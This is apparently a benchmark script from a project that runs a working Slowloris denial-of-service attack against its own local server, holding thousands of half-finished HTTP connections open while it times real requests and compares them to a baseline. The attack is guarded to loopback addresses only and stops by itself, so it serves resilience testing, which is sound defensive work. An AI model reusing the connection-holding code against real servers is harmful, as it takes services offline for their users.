"""Slowloris against a local ``kb serve`` (or nginx in front of it): do real requests still get
their answer while thousands of connections are held open, dripping a header line now and
then and never finishing their request?

A helper process opens ``--connections`` connections to the server, each sending the start of
a request and then one more header line every ``--drip`` seconds; a connection the server
closes is opened again (as an attacker would). Once all are open, this process makes a real
request (a new connection, as a new visitor's) every 0.2 s for ``--seconds``: the attack and
the measure run in two processes, so that the attacker's own work never counts as the
server's delay. The report gives how many idle connections were held, how many the server
closed, and the real requests' latencies (median and worst) and failures, beside those of
the same requests made before the attack began (the baseline). Bounded: loopback
addresses only, and it stops by itself.

Run: ``python bench/slowloris.py --port 8765 [--connections 2000] [--seconds 5]``; the exit
status is 1 when a real request failed or took more than ``--limit`` seconds (1 by default).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import http.client
import ipaddress
import json
import multiprocessing
import resource
import statistics
import sys
import time
from dataclasses import asdict, dataclass, field
from multiprocessing.connection import Connection


@dataclass
class Outcome:
    connections: int  # idle connections asked for
    held: int = 0  # open when the real requests began
    held_at_end: int = 0  # open when they ended
    closed_by_server: int = 0
    latencies: list[float] = field(default_factory=list)  # seconds, of the real requests
    failures: list[str] = field(default_factory=list)
    baseline: list[float] = field(default_factory=list)  # the same requests, before the attack

    @property
    def worst(self) -> float:
        return max(self.latencies, default=float("inf"))

    @property
    def median(self) -> float:
        return statistics.median(self.latencies) if self.latencies else float("inf")

    def summary(self) -> dict:
        quiet = statistics.median(self.baseline) if self.baseline else float("nan")
        return {**{k: v for k, v in asdict(self).items() if k not in ("latencies", "baseline")},
                "requests": len(self.latencies), "median_ms": round(self.median * 1000, 1),
                "worst_ms": round(self.worst * 1000, 1),
                "baseline_median_ms": round(quiet * 1000, 1),
                "baseline_worst_ms": round(max(self.baseline, default=float("nan")) * 1000, 1)}


# -- the attacker (its own process) ------------------------------------------------------------


class _Holders:
    """Connections that never finish their request head."""

    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port
        self.writers: set[asyncio.StreamWriter] = set()
        self.closed_by_server = 0
        self.stopping = False

    async def hold(self, connected: asyncio.Queue) -> None:
        """One connection, opened again whenever the server closes it."""
        first = True
        while not self.stopping:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
                writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
            except OSError:
                await asyncio.sleep(0.1)
                continue
            self.writers.add(writer)
            if first:
                connected.put_nowait(1)
                first = False
            try:
                await reader.read(1024)  # returns when the server answers or closes
            except OSError:
                pass
            finally:
                self.writers.discard(writer)
                writer.close()
            if not self.stopping:
                self.closed_by_server += 1

    async def drip(self, every: float) -> None:
        n = 0
        while not self.stopping:
            await asyncio.sleep(every)
            for writer in list(self.writers):
                with contextlib.suppress(OSError, RuntimeError):
                    writer.write(b"X-%d: a\r\n" % n)
            n += 1


async def _attack(host: str, port: int, connections: int, drip: float,
                  control: Connection) -> None:
    holders = _Holders(host, port)
    connected: asyncio.Queue = asyncio.Queue()
    tasks = [asyncio.create_task(holders.hold(connected)) for _ in range(connections)]
    tasks.append(asyncio.create_task(holders.drip(drip)))
    deadline = time.monotonic() + 60
    for _ in range(connections):
        try:
            await asyncio.wait_for(connected.get(), max(deadline - time.monotonic(), 0.01))
        except TimeoutError:
            break
    control.send(len(holders.writers))
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, control.recv)  # until told to stop
    open_at_end = len(holders.writers)
    holders.stopping = True
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    control.send((open_at_end, holders.closed_by_server))


def _attacker(host: str, port: int, connections: int, drip: float, control: Connection) -> None:
    _more_descriptors(connections + 100)
    asyncio.run(_attack(host, port, connections, drip, control))


# -- the measure (this process) ----------------------------------------------------------------


def _real(host: str, port: int, path: str, timeout: float) -> float:
    started = time.perf_counter()
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        conn.request("GET", path, headers={"Host": "localhost"})
        response = conn.getresponse()
        response.read()
    finally:
        conn.close()
    if response.status != 200:
        raise RuntimeError(f"HTTP {response.status}")
    return time.perf_counter() - started


def attack(host: str, port: int, connections: int = 2000, seconds: float = 5.0,
           drip: float = 1.0, path: str = "/api/versions", timeout: float = 5.0) -> Outcome:
    """Hold ``connections`` idle connections while real requests are timed (see the module
    docstring)."""
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"{host}: slowloris is only run against this machine")
    outcome = Outcome(connections)
    for _ in range(10):  # the baseline: the same requests with no connection held
        outcome.baseline.append(_real(host, port, path, timeout))
        time.sleep(0.05)
    context = multiprocessing.get_context("spawn")
    control, theirs = context.Pipe()
    attacker = context.Process(target=_attacker, args=(host, port, connections, drip, theirs),
                               daemon=True)
    attacker.start()
    try:
        if not control.poll(90):
            raise RuntimeError("the attacker did not open its connections in 90 s")
        outcome.held = control.recv()
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try:
                outcome.latencies.append(_real(host, port, path, timeout))
            except (OSError, RuntimeError, http.client.HTTPException) as exc:
                outcome.failures.append(f"{type(exc).__name__}: {exc}")
            time.sleep(0.2)
        control.send("stop")
        if control.poll(60):
            outcome.held_at_end, outcome.closed_by_server = control.recv()
    finally:
        attacker.join(60)
        if attacker.is_alive():
            attacker.kill()
    return outcome


def _more_descriptors(wanted: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=2000)
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--drip", type=float, default=1.0)
    ap.add_argument("--path", default="/api/versions")
    ap.add_argument("--limit", type=float, default=1.0)
    args = ap.parse_args(argv)
    outcome = attack(args.host, args.port, args.connections, args.seconds, args.drip,
                     args.path)
    print(json.dumps(outcome.summary(), indent=1))
    return 0 if not outcome.failures and outcome.worst <= args.limit else 1


if __name__ == "__main__":
    sys.exit(main())
